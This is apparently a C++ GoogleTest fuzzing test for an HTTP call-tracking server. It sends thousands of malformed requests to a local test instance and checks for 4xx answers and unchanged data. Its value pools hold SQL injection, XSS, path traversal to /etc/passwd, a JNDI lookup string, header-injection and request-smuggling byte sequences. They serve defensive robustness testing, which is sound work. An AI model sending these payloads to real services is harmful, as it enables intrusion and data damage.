// The bad-input campaign: thousands of generated malformed and hostile requests (a fixed seed,
// so a failure replays) against a server holding known data. Every one must get a 4xx envelope
// (or, for bytes that are not HTTP, a closed connection), never a 5xx; the server must stay up
// and exit cleanly; and the data stored before must read back unchanged afterwards.
//
// The one exception by design: a push whose body is well formed but whose every record is bad
// is answered 200 with each record in `rejected` (records are accepted or refused one by one);
// the campaign checks that such an answer stored nothing.
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http.hpp>
#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <iostream>
#include <limits>
#include <map>
#include <random>

#include "support/server_test.hpp"

namespace dialtrack::test {
namespace {

namespace json = boost::json;
namespace beast_http = boost::beast::http;
using SteadyClock = std::chrono::steady_clock;

constexpr std::string_view kAdmin = "campaign-admin-token-5d1c";
constexpr std::string_view kReader = "campaign-read-token-81f0";
constexpr std::int64_t kMissingTask = 987'654'321;

/// Values that are wrong somewhere: wrong types, extremes, injection and odd text. None is a
/// small positive integer, so none names an existing task by accident.
json::value hostile_value(std::mt19937_64& rng) {
  static const std::vector<json::value> kPool = [] {
    std::vector<json::value> pool;
    pool.emplace_back(nullptr);
    pool.emplace_back(true);
    pool.emplace_back(false);
    pool.emplace_back(0);
    pool.emplace_back(-1);
    pool.emplace_back(std::numeric_limits<std::int64_t>::min());
    pool.emplace_back(std::numeric_limits<std::int64_t>::max());
    pool.emplace_back(std::numeric_limits<std::uint64_t>::max());
    pool.emplace_back(1.5);
    pool.emplace_back(-0.0);
    pool.emplace_back(1e308);
    pool.emplace_back(-1e308);
    pool.emplace_back("");
    pool.emplace_back(" ");
    pool.emplace_back("'; DROP TABLE call_tasks; --");
    pool.emplace_back("1 OR 1=1");
    pool.emplace_back("\" OR \"\"=\"");
    pool.emplace_back("a\r\nX-Injected: yes");
    pool.emplace_back(json::string_view("\0", 1));
    pool.emplace_back(json::string_view("abc\0def", 7));
    pool.emplace_back(json::string_view(std::string(70'000, 'x')));
    pool.emplace_back(json::string_view(std::string(300, '9')));
    pool.emplace_back("\xe5\xa4\x96\xe5\x91\xbc\xe2\x80\xae");  // 外呼 and a right-to-left override
    pool.emplace_back("\xf0\x9f\x93\x9e");                      // a telephone emoji
    pool.emplace_back("<script>alert(1)</script>");
    pool.emplace_back("../../../../etc/passwd");
    pool.emplace_back("%00%0d%0a");
    pool.emplace_back("${jndi:ldap://example.com/a}");
    pool.emplace_back("+-()");
    pool.emplace_back("Connected OR 1=1");
    pool.emplace_back(json::array{});
    pool.emplace_back(json::array{1, 2, 3});
    pool.emplace_back(json::array{"Connected"});
    pool.emplace_back(json::object{});
    pool.emplace_back(json::object{{"$ne", nullptr}});
    pool.emplace_back(json::object{{"__proto__", json::object{{"admin", true}}}});
    json::value nested = json::array{};
    for (int i = 0; i < 20; ++i) {
      nested = json::array{nested};
    }
    pool.push_back(nested);
    return pool;
  }();
  return kPool[rng() % kPool.size()];
}

bool is_string(const json::value& v) {
  return v.is_string();
}

/// One raw exchange: sends `bytes`, closes the sending side, and reads until the server closes.
std::string raw_exchange(std::uint16_t port, std::string_view bytes) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (fd < 0 || ::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0) {
    if (fd >= 0) {
      ::close(fd);
    }
    throw std::runtime_error("cannot connect: is the server down?");
  }
  std::size_t sent = 0;
  while (sent < bytes.size()) {
    const auto n = ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (n <= 0) {
      break;  // the server may hang up on garbage before reading it all
    }
    sent += static_cast<std::size_t>(n);
  }
  ::shutdown(fd, SHUT_WR);
  std::string received;
  const auto deadline = SteadyClock::now() + answer_deadline();
  for (;;) {
    const auto left =
        std::chrono::duration_cast<std::chrono::milliseconds>(deadline - SteadyClock::now());
    pollfd entry{fd, POLLIN, 0};
    if (left.count() <= 0 || ::poll(&entry, 1, static_cast<int>(left.count())) <= 0) {
      ::close(fd);
      throw std::runtime_error("the server did not close a garbage connection in time");
    }
    std::array<char, 65536> chunk{};
    const auto n = ::recv(fd, chunk.data(), chunk.size(), 0);
    if (n <= 0) {
      break;
    }
    received.append(chunk.data(), static_cast<std::size_t>(n));
  }
  ::close(fd);
  return received;
}

struct RawAnswer {
  unsigned status = 0;
  std::string body;
};

/// Splits what a server sent into its responses; throws on bytes that are not responses.
std::vector<RawAnswer> parse_answers(std::string_view data) {
  std::vector<RawAnswer> out;
  while (!data.empty()) {
    beast_http::response_parser<beast_http::string_body> parser;
    parser.eager(true);
    while (!parser.is_done()) {
      boost::system::error_code ec;
      const auto used = parser.put(boost::asio::buffer(data.data(), data.size()), ec);
      data.remove_prefix(used);
      if (ec == beast_http::error::need_more && (data.empty() || used == 0)) {
        throw std::runtime_error("a truncated response");
      }
      if (ec && ec != beast_http::error::need_more) {
        throw std::runtime_error("not an HTTP response: " + ec.message());
      }
    }
    out.push_back({parser.get().result_int(), parser.get().body()});
  }
  return out;
}

::testing::AssertionResult is_client_error_envelope(unsigned status, std::string_view body) {
  if (status < 400 || status >= 500) {
    return ::testing::AssertionFailure() << "HTTP " << status << " " << body.substr(0, 500);
  }
  boost::system::error_code ec;
  const auto value = json::parse(body, ec);
  const auto* envelope = ec ? nullptr : value.if_object();
  const auto* code = envelope == nullptr ? nullptr : envelope->if_contains("code");
  const auto* state = envelope == nullptr ? nullptr : envelope->if_contains("status");
  if (code == nullptr || state == nullptr || *state != "error" || !code->is_number() ||
      code->to_number<std::int64_t>() != static_cast<std::int64_t>(status)) {
    return ::testing::AssertionFailure() << "not an error envelope: " << body.substr(0, 500);
  }
  return ::testing::AssertionSuccess();
}

class BadInputCampaignTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ServerOptions options;
    options.env = {{"DIALTRACK_AUTH_TOKENS",
                    "ops:admin:" + std::string(kAdmin) + ",viewer:read:" + std::string(kReader)},
                   {"DIALTRACK_HTTP_READ_TIMEOUT_MS", "2000"},
                   {"DIALTRACK_WEBHOOKS_THREADS", "0"}};
    server_ = std::make_unique<ServerProcess>(options);
    server_->start();
    http_ = std::make_unique<HttpConnection>(server_->port());
    seed_data();
  }

  Headers auth() const { return {{"Authorization", "Bearer " + std::string(kAdmin)}}; }

  Response call(std::string_view method, const std::string& target, std::string body,
                Headers headers) {
    for (int attempt = 0;; ++attempt) {
      try {
        auto response = http_->request(method, target, body, headers);
        if (!response.keep_alive) {
          http_ = std::make_unique<HttpConnection>(server_->port());
        }
        return response;
      } catch (const std::exception&) {
        // The server closed after its answer to an earlier request: start a new connection.
        http_ = std::make_unique<HttpConnection>(server_->port());
        if (attempt > 0) {
          throw;
        }
      }
    }
  }

  void seed_data() {
    const auto phones = make_phones(6);
    auto create = [&](std::string_view name, std::string_view group,
                      std::vector<std::string> leads) {
      const auto response =
          call("POST", "/tasks",
               json::serialize(json::object{
                   {"name", name}, {"job_group_id", group}, {"leads", leads_of(leads)}}),
               auth());
      EXPECT_EQ(response.status, 201u) << response.describe();
      return int_field(response.data_object(), "task_id");
    };
    calling_ = create("calling", "campaign-jg-a", {phones[0], phones[1]});
    completed_ = create("completed", "campaign-jg-b", {phones[2]});
    created_ = create("created", "campaign-jg-c", {phones[3], phones[4], phones[5]});
    const auto records =
        json::array{call_record("seed-1", calling_, phones[0], "Connected"),
                    call_record("seed-2", calling_, phones[1], "NoAnswer"),
                    call_record("seed-3", completed_, phones[2], "SucceededFinish")};
    const auto pushed = call("POST", "/outbound_call_records",
                             json::serialize(json::object{{"records", records}}), auth());
    ASSERT_EQ(ingest_counts(pushed).accepted, 3);
  }

  /// Everything stored, as the API reads it.
  std::string snapshot() {
    std::string out = call("GET", "/tasks?page_size=1000", {}, auth()).body;
    for (const auto id : {calling_, completed_, created_}) {
      const auto task = std::to_string(id);
      out += call("GET", "/task_followup_records/" + task + "?page_size=1000", {}, auth()).body;
      out += call("GET", "/tasks/" + task + "/history", {}, auth()).body;
    }
    out += call("GET", "/webhooks", {}, auth()).body;
    return out;
  }

  /// A well-formed JSON request that is wrong in at least one place.
  struct Generated {
    std::string method;
    std::string target;
    std::string body;
    bool record_level = false;  ///< a push whose every record is bad: 200, nothing stored
  };

  json::object lead_with(std::mt19937_64& rng) {
    json::object lead{
        {"phone", "13912345678"}, {"name", "n"}, {"job_id", "j"}, {"attrs", json::object{}}};
    static const std::array<std::string_view, 5> kFields{"phone", "name", "job_id", "attrs",
                                                         "other"};
    lead[kFields[rng() % kFields.size()]] = hostile_value(rng);
    return lead;
  }

  Generated generate_json(std::mt19937_64& rng) {
    const auto existing = std::to_string(std::array{calling_, completed_, created_}[rng() % 3]);
    // A lead that is always refused keeps a body invalid whatever else the mutation did.
    const json::object poison_lead{{"phone", "not a phone"}};
    switch (rng() % 7) {
      case 0: {  // POST /tasks
        json::object body{{"name", "campaign"},
                          {"job_group_id", "g"},
                          {"leads", json::array{lead_with(rng), poison_lead}}};
        const auto which = rng() % 3;
        if (which == 0) {
          body["name"] = hostile_value(rng);
        } else if (which == 1) {
          body["job_group_id"] = hostile_value(rng);
        } else {
          auto value = hostile_value(rng);
          body["leads"] = value.is_array() || value.is_null() ? json::value(17) : value;
        }
        return {"POST", "/tasks", json::serialize(body)};
      }
      case 1: {  // POST /tasks/{id}/leads
        json::object body{{"leads", json::array{lead_with(rng), poison_lead}}};
        if (rng() % 4 == 0) {
          auto value = hostile_value(rng);
          body["leads"] = value.is_array() ? json::value("x") : value;
        }
        return {"POST", "/tasks/" + existing + "/leads", json::serialize(body)};
      }
      case 2: {  // POST /tasks/{id}/start with a job group that cannot be valid
        auto value = hostile_value(rng);
        if (value.is_null() || (is_string(value) && value.as_string().size() <= 128)) {
          value = json::array{"g"};
        }
        return {"POST", "/tasks/" + existing + "/start",
                json::serialize(json::object{{"job_group_id", value}})};
      }
      case 3: {  // POST /outbound_call_records, refused as a whole
        json::object body{{"records", json::array{call_record("c", kMissingTask, "139", "x")}}};
        if (rng() % 2 == 0) {
          auto value = hostile_value(rng);
          body["records"] = value.is_array() ? json::value(5) : value;
        } else {
          auto value = hostile_value(rng);
          body["job_group_id"] = is_string(value) || value.is_null() ? json::value(5) : value;
        }
        return {"POST", "/outbound_call_records", json::serialize(body)};
      }
      case 4: {  // POST /outbound_call_records whose records are all refused one by one
        json::array records;
        const auto count = 1 + rng() % 4;
        static const std::array<std::string_view, 11> kFields{
            "call_id",    "task_id",  "job_group_id", "phone",      "call_status", "job_id",
            "started_at", "ended_at", "duration",     "event_time", "extra"};
        for (std::size_t i = 0; i < count; ++i) {
          auto record = call_record("campaign-" + std::to_string(rng()), kMissingTask,
                                    "13912345678", "Connected");
          const auto field = kFields[rng() % kFields.size()];
          auto value = hostile_value(rng);
          if (field == "task_id" && value.is_null()) {
            value = -5;  // absent would route by job group and phone: keep it refused
          }
          record[field] = value;
          records.push_back(rng() % 10 == 0 ? hostile_value(rng) : json::value(record));
        }
        return {"POST", "/outbound_call_records",
                json::serialize(json::object{{"records", records}}), true};
      }
      case 5: {  // POST /check_task_completion and its batch
        if (rng() % 2 == 0) {
          json::object body{{"task_id", std::stoll(existing)}, {"task_type", 7}};
          if (rng() % 2 == 0) {
            body["task_id"] = hostile_value(rng);
          } else {
            auto value = hostile_value(rng);
            body["task_type"] = value.is_null() ? json::value(0) : value;
          }
          return {"POST", "/check_task_completion", json::serialize(body)};
        }
        auto value = hostile_value(rng);
        json::array ids{std::stoll(existing), value.is_null() ? json::value(-1) : value, -1};
        const bool whole = rng() % 3 == 0 && !value.is_array();
        return {"POST", "/check_task_completion/batch",
                json::serialize(json::object{{"task_ids", whole ? value : json::value(ids)}})};
      }
      default: {  // POST /webhooks with an unknown event kept in
        json::object body{{"url", "https://example.com/hook"},
                          {"secret", "s"},
                          {"events", json::array{"task.completed", "no.such.event"}}};
        const auto which = rng() % 3;
        if (which == 0) {
          body["url"] = hostile_value(rng);
        } else if (which == 1) {
          body["secret"] = hostile_value(rng);
        } else {
          auto value = hostile_value(rng);
          body["events"] = value.is_null() || value == json::array{} ? json::value(3) : value;
        }
        if (which != 2 && rng() % 2 == 0) {
          body["events"] = json::array{hostile_value(rng), "no.such.event"};
        }
        return {"POST", "/webhooks", json::serialize(body)};
      }
    }
  }

  /// Breaks a JSON text: truncated, invalid UTF-8, NUL bytes, trailing garbage, deep nesting,
  /// or not JSON at all.
  static std::string break_json(std::string body, std::mt19937_64& rng) {
    static const std::array<std::string, 8> kBadBytes{
        "\xff",         "\xc3\x28",         "\xc0\xaf",
        "\xed\xa0\x80", "\xf5\x80\x80\x80", std::string("\0", 1),
        "\x1b[31m",     "\xe2\x82"};
    switch (rng() % 6) {
      case 0:  // never empty: an empty body reads as {} where a body is optional
        return body.substr(0, 1 + rng() % (body.size() - 1));
      case 1: {  // inside the first string value
        const auto quote = body.find(":\"");
        const auto at = quote == std::string::npos ? body.size() / 2 : quote + 2;
        return body.insert(at, kBadBytes[rng() % kBadBytes.size()]);
      }
      case 2:
        return body + "}garbage";
      case 3:
        return std::string(40, '[') + std::string(40, ']');
      case 4:
        return "name=campaign&leads=1";
      default:
        return body.insert(rng() % (body.size() + 1), std::string("\0", 1));
    }
  }

  std::unique_ptr<ServerProcess> server_;
  std::unique_ptr<HttpConnection> http_;
  std::int64_t calling_ = 0;
  std::int64_t completed_ = 0;
  std::int64_t created_ = 0;
};

TEST_F(BadInputCampaignTest, HostileRequestsGet4xxAndChangeNothing) {
  const auto before = snapshot();
  std::mt19937_64 rng(20261128);
  std::size_t sent = 0;
  std::map<unsigned, std::size_t> statuses;  // reported at the end, to see what was exercised
  std::size_t closed_without_answer = 0;

  // 1. Well-formed JSON, wrong in its fields.
  for (int i = 0; i < 4000; ++i, ++sent) {
    const auto g = generate_json(rng);
    const auto response = call(g.method, g.target, g.body, auth());
    ++statuses[response.status];
    if (g.record_level) {
      ASSERT_EQ(response.status, 200u) << g.body.substr(0, 300) << " -> " << response.describe();
      const auto counts = ingest_counts(response);
      ASSERT_EQ(counts.accepted + counts.updated + counts.unchanged + counts.stale, 0)
          << g.body.substr(0, 300);
    } else {
      ASSERT_TRUE(is_client_error_envelope(response.status, response.body))
          << g.method << " " << g.target << " " << g.body.substr(0, 300);
    }
  }

  // 2. Bodies that are not valid JSON, under various content types.
  static const std::array<std::string_view, 6> kContentTypes{"application/json",
                                                             "text/plain",
                                                             "application/x-www-form-urlencoded",
                                                             "multipart/form-data; boundary=x",
                                                             "application/xml",
                                                             "application/json; charset=latin1"};
  for (int i = 0; i < 2000; ++i, ++sent) {
    const auto g = generate_json(rng);
    const auto body = break_json(g.body, rng);
    auto headers = auth();
    headers.emplace_back("Content-Type", std::string(kContentTypes[rng() % kContentTypes.size()]));
    const auto response = call(g.method, g.target, body, headers);
    ++statuses[response.status];
    ASSERT_TRUE(is_client_error_envelope(response.status, response.body))
        << g.method << " " << g.target << " " << json::serialize(json::value(body)).substr(0, 300);
  }

  // 3. Bad paths, ids, queries, methods and credentials.
  static const std::array<std::string_view, 16> kBadIds{"0",
                                                        "-1",
                                                        "abc",
                                                        "1.5",
                                                        "1e3",
                                                        "9223372036854775808",
                                                        "%27%3B%20DROP%20TABLE%20call_tasks%3B--",
                                                        "%00",
                                                        "..",
                                                        "1%0d%0aX-Injected:%201",
                                                        "+1",
                                                        "0x10",
                                                        "1%20",
                                                        "",
                                                        "99999999999999999999999999",
                                                        "%E5%A4%96"};
  static const std::array<std::string_view, 8> kRoutes{"/tasks/{}",
                                                       "/tasks/{}/history",
                                                       "/task_followup_records/{}",
                                                       "/check_task_completion/{}",
                                                       "/webhooks/{}",
                                                       "/webhooks/{}/deliveries",
                                                       "/tasks/{}/start",
                                                       "/tasks/{}/leads"};
  // Every one is wrong for every listing below (task_type only where it is read: /tasks).
  static const std::array<std::string_view, 7> kPageQueries{
      "?page=0",         "?page=-1",  "?page_size=0",
      "?page_size=1001", "?page=abc", "?page_size=99999999999999999999",
      "?page=%00"};
  static const std::array<std::string_view, 3> kTaskQueries{"?task_type=5", "?task_type=0",
                                                            "?task_type=1%20OR%201=1"};
  static const std::array<std::string_view, 7> kMethods{"PUT",      "PATCH",  "OPTIONS", "TRACE",
                                                        "PROPFIND", "DELETE", "POST"};
  for (int i = 0; i < 1500; ++i, ++sent) {
    std::string method = "GET";
    std::string target;
    Headers headers = auth();
    switch (rng() % 5) {
      case 0: {
        target = std::string(kRoutes[rng() % kRoutes.size()]);
        target.replace(target.find("{}"), 2, kBadIds[rng() % kBadIds.size()]);
        if (target.ends_with("/start") || target.ends_with("/leads")) {
          method = "POST";
        } else if (rng() % 3 == 0 && target.starts_with("/tasks/") &&
                   target.find('/', 7) == std::string::npos) {
          method = "DELETE";
        }
        break;
      }
      case 1: {
        static const std::array<std::string_view, 3> kListed{"/tasks", "/task_followup_records/",
                                                             "/webhooks/1/deliveries"};
        target = std::string(kListed[rng() % kListed.size()]);
        if (target.ends_with('/')) {
          target += std::to_string(calling_);
        }
        target += target == "/tasks" && rng() % 2 == 0 ? kTaskQueries[rng() % kTaskQueries.size()]
                                                       : kPageQueries[rng() % kPageQueries.size()];
        break;
      }
      case 2: {
        method = std::string(kMethods[rng() % kMethods.size()]);
        static const std::array<std::string_view, 5> kTargets{
            "/tasks", "/healthz", "/outbound_call_records", "/check_task_completion/batch",
            "/metrics"};
        target = std::string(kTargets[rng() % kTargets.size()]);
        if (method == "POST" && target != "/healthz" && target != "/metrics") {
          target += "/nope";
        }
        break;
      }
      case 3: {
        static const std::array<std::string_view, 6> kUnknown{
            "/nope",  "/tasks/1/2/3",    "/.env",
            "/admin", "/tasks//history", "/check_task_completion/batch/x"};
        target = std::string(kUnknown[rng() % kUnknown.size()]);
        break;
      }
      default: {
        static const std::array<std::string_view, 8> kAuth{
            "Bearer wrong",
            "Bearer",
            "Basic YWRtaW46YWRtaW4=",
            "bearer  ",
            "Token x",
            "Bearer campaign-admin-token-5d1",
            "Bearer ' OR 1=1 --",
            "Bearer campaign-read-token-81f0"};  // valid, but read cannot delete: 403
        headers = {{"Authorization", std::string(kAuth[rng() % kAuth.size()])}};
        target = "/tasks";
        method = rng() % 2 == 0 || headers[0].second.ends_with("81f0") ? "DELETE" : "GET";
        if (method == "DELETE") {
          target += "/" + std::to_string(created_);
        }
        break;
      }
    }
    const auto response = call(method, target, {}, headers);
    ++statuses[response.status];
    ASSERT_TRUE(is_client_error_envelope(response.status, response.body))
        << method << " " << target;
  }

  // 4. Raw bytes: garbage, broken framing, header injection, smuggling, pipelined mixtures.
  const std::string auth_line = "Authorization: Bearer " + std::string(kAdmin) + "\r\n";
  const std::vector<std::string> invalid_requests{
      "GET /tasks/0 HTTP/1.1\r\nHost: x\r\n" + auth_line + "\r\n",
      "GET /nope HTTP/1.1\r\nHost: x\r\n\r\n",
      "FOO /tasks HTTP/1.1\r\nHost: x\r\n" + auth_line + "\r\n",
      "POST /tasks HTTP/1.1\r\nHost: x\r\n" + auth_line + "Content-Length: 5\r\n\r\n{\"na\"",
      "GET /tasks HTTP/1.1\r\nHost: x\r\n\r\n",  // no token: 401
      "POST /check_task_completion HTTP/1.1\r\nHost: x\r\n" + auth_line +
          "Content-Length: 2\r\n\r\n[]",
  };
  const std::vector<std::string> garbage{
      "THIS IS NOT HTTP\r\n\r\n",
      std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11),
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
      "GET / HTTP/9.9\r\n\r\n",
      "GET /tasks HTTP/1.1\r\nHost: x\r\nX-Bad: a\rb\r\n\r\n",
      "GET /tasks HTTP/1.1\r\nHost: x\r\n folded: header\r\n\r\n",
      "GET /tasks HTTP/1.1\r\nHo st: x\r\n\r\n",
      std::string("GET /tasks\0 HTTP/1.1\r\nHost: x\r\n\r\n", 33),
      "POST /tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\nabcdefg",
      "POST /tasks HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
      "POST /tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 9000000\r\n\r\n{\"name\":",
      "POST /tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n",
      "POST /tasks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
      "POST /tasks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n"
      "0\r\n\r\n",
      "GET /tasks HTTP/1.1\r\nHost: x\r\nX-Injected: a\r\n\r\nGARBAGE\r\n\r\n",
      "\r\n\r\n\r\n",
      "GET " + std::string(20'000, 'a') + " HTTP/1.1\r\nHost: x\r\n\r\n",
      "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n",
      "GET http://evil.example/tasks HTTP/1.1\r\nHost: evil\r\n\r\n",
      "GET /tasks HTTP/1.1\r\nHost: x\r\nAccept-Language: " + std::string(3000, 'e') + "\r\n\r\n",
  };
  for (int i = 0; i < 1000; ++i, ++sent) {
    std::string bytes;
    const auto pipelined = rng() % 4;
    for (std::uint64_t k = 0; k < pipelined; ++k) {
      bytes += invalid_requests[rng() % invalid_requests.size()];
    }
    if (rng() % 3 == 0) {
      std::string noise(1 + rng() % 200, '\0');
      for (auto& c : noise) {
        c = static_cast<char>(rng() % 256);
      }
      bytes += noise;
    } else {
      bytes += garbage[rng() % garbage.size()];
    }
    const auto received = raw_exchange(server_->port(), bytes);
    std::vector<RawAnswer> answers;
    ASSERT_NO_THROW(answers = parse_answers(received)) << received.substr(0, 500);
    closed_without_answer += answers.empty() ? 1 : 0;
    for (const auto& answer : answers) {
      ++statuses[answer.status];
      ASSERT_TRUE(is_client_error_envelope(answer.status, answer.body))
          << json::serialize(json::value(bytes)).substr(0, 500);
    }
  }

  EXPECT_GE(sent, 8000u);
  std::string summary = std::to_string(sent) + " requests; answers by status:";
  for (const auto& [status, count] : statuses) {
    summary += " " + std::to_string(status) + "x" + std::to_string(count);
  }
  summary += "; raw connections closed without an answer: " + std::to_string(closed_without_answer);
  std::cout << summary << "\n";
  // Each kind of refusal was reached, not just the first check in line.
  for (const unsigned status : {400U, 401U, 403U, 404U, 405U, 413U, 431U}) {
    EXPECT_GT(statuses[status], 0U) << status << " never answered; " << summary;
  }
  HttpConnection fresh(server_->port());
  EXPECT_EQ(fresh.get("/healthz").status, 200u);
  http_ = std::make_unique<HttpConnection>(server_->port());
  EXPECT_EQ(snapshot(), before);
  // It never crashed: it still stops cleanly on SIGTERM.
  http_.reset();
  EXPECT_EQ(server_->terminate(), 0);
}

// Found by the campaign on PostgreSQL, whose text cannot hold U+0000: such a string was a 500
// there (and would have been cut short as a single parameter). Now a 400 on both backends.
TEST_F(BadInputCampaignTest, NulCharacterInAStringIsA400NamingTheField) {
  const std::string nul("a\0b", 3);
  auto response = call("POST", "/tasks", json::serialize(json::object{{"name", nul}}), auth());
  EXPECT_TRUE(is_field_error(response, "name")) << response.describe();
  response = call(
      "POST", "/tasks",
      json::serialize(json::object{
          {"name", "n"}, {"leads", json::array{json::object{{"phone", "139"}, {"name", nul}}}}}),
      auth());
  EXPECT_TRUE(is_field_error(response, "leads[0].name")) << response.describe();
  const auto pushed = call(
      "POST", "/outbound_call_records",
      json::serialize(json::object{
          {"records", json::array{call_record(nul, calling_, "13900000000", "Connected"),
                                  call_record("fine-1", calling_, "13900000001", "Connected")}}}),
      auth());
  const auto counts = ingest_counts(pushed);
  EXPECT_EQ(counts.accepted, 1);
  ASSERT_EQ(counts.rejected, 1u);
  EXPECT_NE(pushed.body.find("records[0].call_id"), std::string::npos) << pushed.body;
  response = call("POST", "/webhooks",
                  json::serialize(json::object{{"url", "https://example.com/h"}, {"secret", nul}}),
                  auth());
  EXPECT_TRUE(is_field_error(response, "secret")) << response.describe();
}

}  // namespace
}  // namespace dialtrack::test
